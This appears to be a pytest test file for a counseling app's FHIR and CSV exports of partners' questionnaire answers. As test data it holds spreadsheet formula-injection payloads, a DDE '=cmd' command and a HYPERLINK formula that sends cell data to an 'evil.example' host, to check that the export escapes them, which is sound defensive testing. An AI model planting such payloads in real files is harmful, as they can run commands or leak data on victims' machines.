"""Counselor exports: one partner's answers as a FHIR R4 QuestionnaireResponse, an assignment as
CSV. The FHIR resource is checked against the R4 structure by the ``fhir.resources`` library
(tests/support/fhir.py), and its items against the exported Questionnaire.
"""

from __future__ import annotations

import csv
import io
import json
import uuid

import pytest
from sqlalchemy import select

from counselor.core.audit import AuditEvent
from counselor.extensions import db
from counselor.questionnaires.models import Response
from tests.support import (
    INTAKE,
    INVENTORY,
    assign,
    canary,
    desire,
    intake_answers,
    load_own,
    new_case,
    open_link,
    sync,
)
from tests.support.fhir import link_ids, validate_questionnaire_response


def test_the_validator_refuses_broken_resources():
    good = {
        "resourceType": "QuestionnaireResponse",
        "questionnaire": "urn:q|1",
        "status": "completed",
        "item": [
            {"linkId": "a", "text": "A", "answer": [{"valueInteger": 3}]},
            {
                "linkId": "g",
                "item": [{"linkId": "g.b", "answer": [{"valueCoding": {"code": "x"}}]}],
            },
        ],
    }
    assert validate_questionnaire_response(good) == []
    bad = [
        {**good, "resourceType": "Questionnaire"},
        {**good, "status": "submitted"},
        {**good, "questionnaire": {"reference": "x"}},
        {**good, "item": [{"text": "no link id", "answer": [{"valueString": "x"}]}]},
        {**good, "item": [{"linkId": "a", "answer": [{"valueString": "x", "valueInteger": 1}]}]},
        {**good, "item": [{"linkId": "a", "answer": [{"valueFloat": 1.5}]}]},
        {**good, "item": [{"linkId": "a", "answer": [{"valueInteger": True}]}]},
        {**good, "item": [{"linkId": "a", "answer": [{"valueDate": "31/12/2024"}]}]},
        {**good, "item": [{"linkId": "a"}]},
        {
            **good,
            "item": [
                {
                    "linkId": "a",
                    "answer": [{"valueBoolean": True}],
                    "item": [{"linkId": "b", "answer": [{"valueBoolean": True}]}],
                }
            ],
        },
        {**good, "item": []},
        {**good, "answers": []},
    ]
    for resource in bad:
        assert validate_questionnaire_response(resource), resource


# ---- the exports ---------------------------------------------------------------------------

ALL_TYPES = {
    "slug": "all-types",
    "title": "All types",
    "purpose": "One item of every answerable type, for the export tests.",
    "kind": "exercise",
    "items": [
        {"link_id": "intro", "type": "display", "text": "Answer what you like."},
        {
            "link_id": "g",
            "type": "group",
            "text": "Everything",
            "items": [
                {"link_id": "g.bool", "type": "boolean", "text": "A boolean"},
                {
                    "link_id": "g.choice",
                    "type": "choice",
                    "text": "One choice",
                    "options": [{"value": "x", "label": "Ex"}, {"value": "y", "label": "Why"}],
                },
                {
                    "link_id": "g.multi",
                    "type": "choice",
                    "text": "Many choices",
                    "multiple": True,
                    "options": [
                        {"value": "p", "label": "Pe"},
                        {"value": "q", "label": "Cue"},
                        {"value": "r", "label": "Ar"},
                    ],
                },
                {
                    "link_id": "g.open",
                    "type": "open-choice",
                    "text": "Open choice",
                    "options": [{"value": "u", "label": "You"}, {"value": "v", "label": "Vee"}],
                },
                {
                    "link_id": "g.open2",
                    "type": "open-choice",
                    "text": "Open choice, own words",
                    "options": [{"value": "u", "label": "You"}, {"value": "v", "label": "Vee"}],
                },
                {"link_id": "g.string", "type": "string", "text": "A string", "share": "shared"},
                {"link_id": "g.text", "type": "text", "text": "A text"},
                {"link_id": "g.int", "type": "integer", "text": "An integer", "min": 0, "max": 100},
                {"link_id": "g.big", "type": "integer", "text": "A large integer"},
                {"link_id": "g.dec", "type": "decimal", "text": "A decimal"},
                {"link_id": "g.date", "type": "date", "text": "A date"},
                {
                    "link_id": "g.scale",
                    "type": "scale",
                    "text": "A scale",
                    "min": 1,
                    "max": 5,
                    "min_label": "low",
                    "max_label": "high",
                },
                {
                    "link_id": "g.desire",
                    "type": "desire",
                    "text": "A desire",
                    "roles": [
                        {"key": "give", "label": "Giving", "counterpart": "receive"},
                        {"key": "receive", "label": "Receiving", "counterpart": "give"},
                    ],
                },
                {
                    "link_id": "g.hidden",
                    "type": "text",
                    "text": "Only after yes",
                    "enable_when": [{"question": "g.bool", "operator": "=", "answer": True}],
                },
            ],
        },
    ],
}


@pytest.fixture
def exported(app, counselor_a):
    """Two partners on the all-types questionnaire: Sam answered everything, Alex a draft."""
    load_own(counselor_a, ALL_TYPES)
    case = new_case(counselor_a, "Sam & Alex", ("Sam Rivera", "=cmd|' /C calc'!A0"))
    assignment, tokens = assign(case, "all-types", owner_id=counselor_a.id)
    sam_note, alex_text = canary("sam-note"), canary("alex-text")
    sam = open_link(app.test_client(), tokens["Sam Rivera"], name="Sam Rivera")
    alex_name = "=cmd|' /C calc'!A0"
    alex = open_link(app.test_client(), tokens[alex_name], name=alex_name)
    sam_answers = {
        "g.bool": False,
        "g.choice": "y",
        "g.multi": ["p", "r"],
        "g.open": "u",
        "g.open2": "in my own words",
        "g.string": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "g.text": "+1 and -1 and @SUM(A1)",
        "g.int": 42,
        "g.big": 5_000_000_000,
        "g.dec": "2.5",
        "g.date": "2024-02-29",
        "g.scale": 4,
        "g.desire": desire(
            {"give": "yes", "receive": "maybe"},
            limits=["receive"],
            fantasy=True,
            experience="disliked",
            note=sam_note,
        ),
    }
    sam.answer_and_submit(sam_answers)
    alex.autosave({"g.text": alex_text, "g.bool": True, "g.hidden": "after yes"})
    partners = {p.display_name: p for p in case.partners}
    base = f"/cases/{case.id}/assignments/{assignment.id}"
    return case, assignment, partners, base, sam_answers, sam_note, alex_text, alex_name


def get_fhir(client, base, partner):
    r = client.get(f"{base}/partners/{partner.id}/fhir.json")
    assert r.status_code == 200, r.status_code
    assert r.mimetype == "application/fhir+json"
    assert r.headers["Content-Disposition"].startswith("attachment;")
    return json.loads(r.get_data(as_text=True))


def test_fhir_questionnaire_response_of_every_item_type(exported, client_a):
    case, assignment, partners, base, answers, sam_note, alex_text, alex_name = exported
    resource = get_fhir(client_a, base, partners["Sam Rivera"])
    assert validate_questionnaire_response(resource) == []
    assert resource["status"] == "completed"
    assert resource["questionnaire"] == "urn:counselor:questionnaire:all-types|1"
    assert "authored" in resource
    (group,) = resource["item"]
    assert group["linkId"] == "g" and group["text"] == "Everything"
    by_id = {i["linkId"]: i for i in group["item"]}
    assert by_id["g.bool"]["answer"] == [{"valueBoolean": False}]
    assert by_id["g.choice"]["answer"] == [{"valueCoding": {"code": "y", "display": "Why"}}]
    assert [a["valueCoding"]["code"] for a in by_id["g.multi"]["answer"]] == ["p", "r"]
    assert by_id["g.open"]["answer"] == [{"valueCoding": {"code": "u", "display": "You"}}]
    assert by_id["g.open2"]["answer"] == [{"valueString": "in my own words"}]
    assert by_id["g.string"]["answer"] == [{"valueString": answers["g.string"]}]
    assert by_id["g.int"]["answer"] == [{"valueInteger": 42}]
    assert by_id["g.dec"]["answer"] == [{"valueDecimal": 2.5}]
    # FHIR R4 integers are 32-bit: a larger whole number keeps its value as a decimal
    assert by_id["g.big"]["answer"] == [{"valueDecimal": 5_000_000_000}]
    assert by_id["g.date"]["answer"] == [{"valueDate": "2024-02-29"}]
    assert by_id["g.scale"]["answer"] == [{"valueInteger": 4}]
    sub = {i["linkId"]: i for i in by_id["g.desire"]["item"]}
    assert sub["g.desire.role.give"]["answer"][0]["valueCoding"]["code"] == "yes"
    assert sub["g.desire.role.receive"]["answer"][0]["valueCoding"]["code"] == "maybe"
    # a hard limit per role, fantasy only and experience, each its own answer
    assert sub["g.desire.hard_limit.give"]["answer"] == [{"valueBoolean": False}]
    assert sub["g.desire.hard_limit.receive"]["answer"] == [{"valueBoolean": True}]
    assert sub["g.desire.fantasy"]["answer"] == [{"valueBoolean": True}]
    assert sub["g.desire.experience"]["answer"][0]["valueCoding"]["code"] == "disliked"
    assert sub["g.desire.note"]["answer"] == [{"valueString": sam_note}]
    assert "g.hidden" not in by_id  # not shown to Sam (g.bool is false), so not exported
    body = json.dumps(resource)
    assert alex_text not in body, "one partner's export holds nothing of the other"


def test_fhir_of_a_draft_and_of_an_unopened_response(exported, client_a, app):
    case, assignment, partners, base, answers, sam_note, alex_text, alex_name = exported
    draft = get_fhir(client_a, base, partners[alex_name])
    assert validate_questionnaire_response(draft) == []
    assert draft["status"] == "in-progress"
    ids = link_ids(draft["item"])
    assert "g.text" in ids and "g.hidden" in ids
    assert sam_note not in json.dumps(draft)

    # a third partner who never opened the link: a valid resource without answers
    from counselor.questionnaires.models import Questionnaire
    from counselor.questionnaires.services import assign as assign_service

    q = db.session.scalar(select(Questionnaire).where(Questionnaire.slug == "all-types"))
    other, _ = assign_service(
        case, q.latest, [partners["Sam Rivera"].id], due_on=None, instructions=None, ttl_days=None
    )
    db.session.commit()
    empty = get_fhir(client_a, f"/cases/{case.id}/assignments/{other.id}", partners["Sam Rivera"])
    assert validate_questionnaire_response(empty) == [], empty
    assert empty["status"] == "in-progress"
    assert "item" not in empty


def test_fhir_of_the_inventory_and_intake(app, counselor_a, client_a):
    sync()
    case = new_case(counselor_a)
    for slug, answers in (
        (
            INVENTORY,
            {
                "communication.instructions": desire({"give": "yes"}, note="n"),
                "care.cuddling": desire({"together": "want_to_try"}),
                "closing.for_partner": "hello",
            },
        ),
        (
            INTAKE,
            intake_answers(
                **{
                    "goals.motivation": "curiosity",
                    "goals.own_wish": 2,
                    "screening.pressure": "unsure",
                    "screening.more": "later",
                }
            ),
        ),
    ):
        assignment, tokens = assign(case, slug)
        open_link(app.test_client(), tokens["Sam Rivera"], name="Sam Rivera").answer_and_submit(
            answers
        )
        sam = next(p for p in case.partners if p.display_name == "Sam Rivera")
        resource = get_fhir(client_a, f"/cases/{case.id}/assignments/{assignment.id}", sam)
        assert validate_questionnaire_response(resource) == [], (
            slug,
            validate_questionnaire_response(resource),
        )
        # it answers the Questionnaire the builder exports: every linkId is one of its items
        questionnaire = client_a.get(
            f"/questionnaires/{assignment.version.questionnaire_id}/fhir.json"
        ).get_json(force=True)
        assert resource["questionnaire"] == f"{questionnaire['url']}|{questionnaire['version']}"
        assert set(link_ids(resource["item"])) <= set(link_ids(questionnaire["item"]))
        # each answered item sits under its section (a nested group's items included)
        defn = assignment.version.definition
        top = {defn.section_of(i).link_id for i in answers}
        assert {i["linkId"] for i in resource["item"]} == top


def test_fhir_of_a_partner_outside_the_assignment_is_404(exported, client_a):
    case, assignment, partners, base, *_ = exported
    assert client_a.get(f"{base}/partners/{uuid.uuid4()}/fhir.json").status_code == 404


def read_csv(client, base):
    r = client.get(f"{base}/export.csv")
    assert r.status_code == 200
    assert r.mimetype == "text/csv"
    assert r.headers["Content-Disposition"].startswith("attachment;")
    body = r.get_data(as_text=True)
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def test_csv_one_row_per_item_one_column_per_partner(exported, client_a, counselor_a):
    case, assignment, partners, base, answers, sam_note, alex_text, alex_name = exported
    rows = read_csv(client_a, base)
    header, body = rows[0], rows[1:]
    defn = assignment.version.definition
    questions = [i["link_id"] for i in defn.questions()]
    assert header[:5] == ["section", "link_id", "question", "type", "share"]
    assert header[5:] == ["Sam Rivera", "'" + alex_name], (
        "a name that looks like a formula stays text"
    )
    assert len(header) == 5 + len(case.partners)
    assert [r[1] for r in body] == questions, "one row per answerable item, in order"
    assert all(len(r) == len(header) for r in body)
    cell = {r[1]: dict(zip(header[5:], r[5:], strict=True)) for r in body}
    sam, alex = "Sam Rivera", "'" + alex_name
    assert cell["g.string"][sam] == "'" + answers["g.string"], (
        "a typed '=' answer is exported as text"
    )
    assert cell["g.text"][sam] == "'+1 and -1 and @SUM(A1)"
    assert cell["g.int"][sam] == "42" and cell["g.bool"][sam] == "No"
    assert cell["g.multi"][sam] == "Pe; Ar"
    assert sam_note in cell["g.desire"][sam]
    assert "Giving: Yes; Receiving: Maybe (HARD LIMIT); fantasy only" in cell["g.desire"][sam]
    assert "Done it and did not like it" in cell["g.desire"][sam]
    assert cell["g.text"][alex] == alex_text
    assert cell["g.hidden"][sam] == ""
    for r in body:
        for value in r:
            assert value[:1] not in ("=", "+", "-", "@"), value


def test_exports_write_audit_events(exported, client_a):
    case, assignment, partners, base, *_ = exported
    sam = partners["Sam Rivera"]
    get_fhir(client_a, base, sam)
    read_csv(client_a, base)
    db.session.expire_all()
    response = db.session.scalar(
        select(Response).where(
            Response.assignment_id == assignment.id, Response.partner_id == sam.id
        )
    )
    events = db.session.scalars(
        select(AuditEvent).where(AuditEvent.action.in_(["export.fhir", "export.csv"]))
    ).all()
    got = sorted((e.action, e.object_kind, e.object_id, e.actor_kind) for e in events)
    assert got == [
        ("export.csv", "assignment", str(assignment.id), "counselor"),
        ("export.fhir", "response", str(response.id), "counselor"),
    ]
    for e in events:
        assert e.actor_id and "Sam" not in e.object_id
